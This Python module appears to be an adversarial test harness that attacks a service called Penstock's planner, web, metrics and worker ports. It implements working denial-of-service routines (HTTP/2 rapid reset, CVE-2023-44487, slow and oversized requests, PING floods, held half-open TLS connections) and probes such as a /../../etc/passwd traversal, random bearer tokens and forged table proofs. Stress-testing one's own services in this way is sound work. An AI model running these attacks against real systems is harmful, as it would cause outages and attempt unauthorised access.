"""What somebody tries who reaches Penstock's ports and has neither a certificate nor a token of theirs.

Each attack is one short step against one address: it opens a connection, does its harm, and closes it, or leaves it open among
those that are held (Held). An error of the network is what an attacker expects.
"""

import collections
import os
import random
import socket
import ssl
import struct
import time

import epoch_table
import http2_frames as h2

CONNECT_SECONDS = 1.0
ANSWER_SECONDS = 0.5
MESSAGE_BYTES = 1 << 20
METADATA_BYTES = 1 << 20

PLANNER_METHODS = ("RegisterJob", "SubmitBatches", "PlanBatch", "StreamPrograms", "ReportIteration", "RegisterWorker", "Heartbeat",
                   "GetJob", "ListJobs", "GetIteration", "DrainJob", "DeleteJob")
METHODS = (*(f"/penstock.v1.PlannerService/{name}" for name in PLANNER_METHODS),
           "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", "/penstock.v1.PlannerService/")
HEALTH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"


class Held:
    """Connections that are kept open; beyond the most, the oldest is closed."""

    def __init__(self, most):
        self.most = most
        self.connections = collections.deque()

    def add(self, connection):
        self.connections.append(connection)
        while len(self.connections) > self.most:
            self.connections.popleft().close()

    def close(self):
        while self.connections:
            self.connections.popleft().close()


class Attacker:
    """`jobs` are names of jobs that it knows; `foreign` the files of a certificate and key of another authority, or None."""

    def __init__(self, seed, most_held, jobs, foreign):
        self.random = random.Random(seed)
        self.held = Held(most_held)
        self.jobs = jobs
        self.counts = collections.Counter()
        self.without_certificate = self._context()
        self.with_foreign_certificate = self._context()
        if foreign is not None:
            self.with_foreign_certificate.load_cert_chain(*foreign)

    @staticmethod
    def _context():
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context

    def bytes(self, most):
        return self.random.randbytes(self.random.randint(1, most))

    def connect(self, address):
        connection = socket.create_connection(address, CONNECT_SECONDS)
        connection.settimeout(ANSWER_SECONDS)
        return connection

    def encrypted(self, address, context=None):
        connection = (context or self.without_certificate).wrap_socket(self.connect(address), server_hostname="localhost")
        connection.settimeout(ANSWER_SECONDS)
        return connection

    def http2(self, address, context=None):
        connection = self.encrypted(address, context)
        connection.sendall(h2.PREFACE + h2.frame(h2.SETTINGS))
        return connection

    def answers(self, connection, wanted):
        """Streams that answered with a message; reads until `wanted` streams have ended or nothing comes any more."""
        reader, messages, ended = h2.FrameReader(), set(), set()
        end = time.monotonic() + ANSWER_SECONDS
        try:
            while len(ended) < wanted and time.monotonic() < end:
                data = connection.recv(65536)
                if not data:
                    break
                for kind, flags, stream, payload in reader.feed(data):
                    if kind == h2.DATA and payload:
                        messages.add(stream)
                    if stream and (kind == h2.RST_STREAM or (kind in (h2.DATA, h2.HEADERS) and flags & h2.END_STREAM)):
                        ended.add(stream)
                    if kind == h2.GOAWAY:
                        return messages
        except OSError:
            pass
        return messages

    def request(self):
        """Names a job, or is what a fuzzer would send."""
        if self.jobs and self.random.random() < 0.7:
            name = self.random.choice(self.jobs).encode()
            return bytes([0x0A, len(name)]) + name + (b"\x10\x01" if self.random.random() < 0.5 else b"")
        return self.bytes(300)

    # Against whatever listens.

    def garbage(self, address):
        with self.connect(address) as connection:
            connection.sendall(self.bytes(65536))

    def silence(self, address):
        self.held.add(self.connect(address))

    def resets(self, address):
        for _ in range(20):
            with self.connect(address) as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    # Against the planner.

    def half_a_handshake(self, address):
        connection = self.connect(address)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = self.without_certificate.wrap_bio(incoming, outgoing, server_hostname="localhost")
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = outgoing.read()
        connection.sendall(hello[:self.random.randint(1, len(hello))])
        self.held.add(connection)

    def foreign_certificate(self, address):
        try:
            with self.http2(address, self.with_foreign_certificate) as connection:
                connection.sendall(h2.call(1, METHODS[8], b""))
                self.counts["foreign_answered"] += len(self.answers(connection, 1))
        except ssl.SSLError:
            self.counts["foreign_refused"] += 1

    def every_method(self, address):
        paths = [*METHODS, f"/penstock.v1.PlannerService/{self.random.randrange(1 << 40)}", f"/made.up.{self.random.random()}/X"]
        with self.http2(address) as connection:
            token = ("authorization", f"Bearer {self.random.randbytes(16).hex()}")
            for index, path in enumerate(paths):
                connection.sendall(h2.call(2 * index + 1, path, self.request(), [token] if self.random.random() < 0.5 else []))
            self.counts["calls"] += len(paths)
            self.counts["calls_answered"] += len(self.answers(connection, len(paths)))

    def health(self, address):
        with self.http2(address) as connection:
            connection.sendall(h2.call(1, HEALTH, b""))
            self.counts["health"] += 1
            self.counts["health_answered"] += len(self.answers(connection, 1))

    def watchers(self, address):
        connection = self.http2(address)
        for stream in range(1, 401, 2):
            connection.sendall(h2.call(stream, WATCH, b""))
        self.held.add(connection)

    def slow_call(self, address):
        """A call whose headers never end."""
        connection = self.http2(address)
        connection.sendall(h2.frame(h2.HEADERS, 0, 1, h2.grpc_headers(METHODS[7])))
        self.held.add(connection)

    def huge_metadata(self, address):
        block = h2.grpc_headers(METHODS[7], [(f"x-{i}", "y" * 8000) for i in range(METADATA_BYTES // 8000)])
        parts = [block[at:at + h2.LARGEST_FRAME] for at in range(0, len(block), h2.LARGEST_FRAME)]
        with self.http2(address) as connection:
            for index, part in enumerate(parts):
                kind = h2.HEADERS if index == 0 else h2.CONTINUATION
                connection.sendall(h2.frame(kind, h2.END_HEADERS if index == len(parts) - 1 else 0, 1, part))
            self.counts["calls_answered"] += len(self.answers(connection, 1))

    def huge_message(self, address):
        """Says that a message has 2 GB, and sends a part of it."""
        with self.http2(address) as connection:
            connection.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(METHODS[1])))
            connection.sendall(h2.frame(h2.DATA, 0, 1, h2.grpc_message(b"", 0x7FFFFFFF)))
            for _ in range(MESSAGE_BYTES // h2.LARGEST_FRAME):
                connection.sendall(h2.frame(h2.DATA, 0, 1, bytes(h2.LARGEST_FRAME)))

    def rapid_reset(self, address):
        """CVE-2023-44487."""
        with self.http2(address) as connection:
            for stream in range(1, 401, 2):
                connection.sendall(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.grpc_headers(METHODS[7])) +
                                   h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL)))

    def pings(self, address):
        with self.http2(address) as connection:
            connection.sendall(h2.frame(h2.PING, 0, 0, bytes(8)) * 500 + h2.frame(h2.SETTINGS) * 100)
            self.answers(connection, 1)

    def broken_frames(self, address):
        with self.http2(address) as connection:
            connection.sendall(b"".join(
                h2.frame(self.random.randrange(12), self.random.randrange(256), self.random.randrange(8), self.bytes(200))
                for _ in range(20)))
            self.answers(connection, 1)

    # Against the page and the metrics.

    def slow_request(self, address):
        connection = self.connect(address)
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        self.held.add(connection)

    def http_requests(self, address):
        path = self.random.choice(["/../../etc/passwd", "/data/jobs", "/data/job?id=" + "x" * 4000, "/%00", "/metrics", "/data/iteration"])
        method = self.random.choice(["DELETE", "POST", "PUT", "TRACE", "GET", "OPTIONS", "X" * 100])
        with self.connect(address) as connection:
            connection.sendall(f"{method} {path} HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 5\r\n\r\nhello".encode())
            answer = connection.recv(100)
            self.counts["http"] += 1
            self.counts["http_refused"] += not answer.startswith(b"HTTP/1.1 200")

    def huge_request(self, address):
        with self.connect(address) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * MESSAGE_BYTES)

    # Against workers: rank 0's table, and Gloo's ports.

    def gloo_numbers(self, address):
        """Gloo takes for a peer who sends the number that it expects; then comes what no peer sends."""
        for number in range(8):
            connection = self.connect(address)
            connection.sendall(struct.pack("<Q", number) + self.bytes(64))
            self.held.add(connection)

    def table_proofs(self, address):
        """Puts a value into the table, behind a proof that is none: random bytes, or what the table said on this connection or another."""
        with self.connect(address) as connection, self.connect(address) as other:
            challenge, another = (epoch_table.read_exactly(one, epoch_table.CHALLENGE_BYTES) for one in (connection, other))
            self.counts["table_challenges"] += 2
            proof = self.random.choice([self.random.randbytes(epoch_table.PROOF_BYTES), challenge, another])
            connection.sendall(self.random.choice([challenge, another]) + proof + epoch_table.set_value(b"epoch 1/gloo 0, 1/0", b"6.6.6.6:666"))
            self.counts["table_answered"] += bool(connection.recv(1))

    def table_crowds(self, address):
        """More connections than the table keeps of those who have not shown the secret."""
        for _ in range(50):
            self.held.add(self.connect(address))


ANY = (Attacker.garbage, Attacker.silence, Attacker.resets)
HTTP = (*ANY, Attacker.slow_request, Attacker.http_requests, Attacker.huge_request)
ATTACKS = {
    "planner": (*ANY, Attacker.half_a_handshake, Attacker.foreign_certificate, Attacker.every_method, Attacker.health,
                Attacker.watchers, Attacker.slow_call, Attacker.huge_metadata, Attacker.huge_message, Attacker.rapid_reset,
                Attacker.pings, Attacker.broken_frames),
    "page": HTTP,
    "metrics": HTTP,
    "worker": (*ANY, Attacker.gloo_numbers, Attacker.table_proofs, Attacker.table_crowds),
}
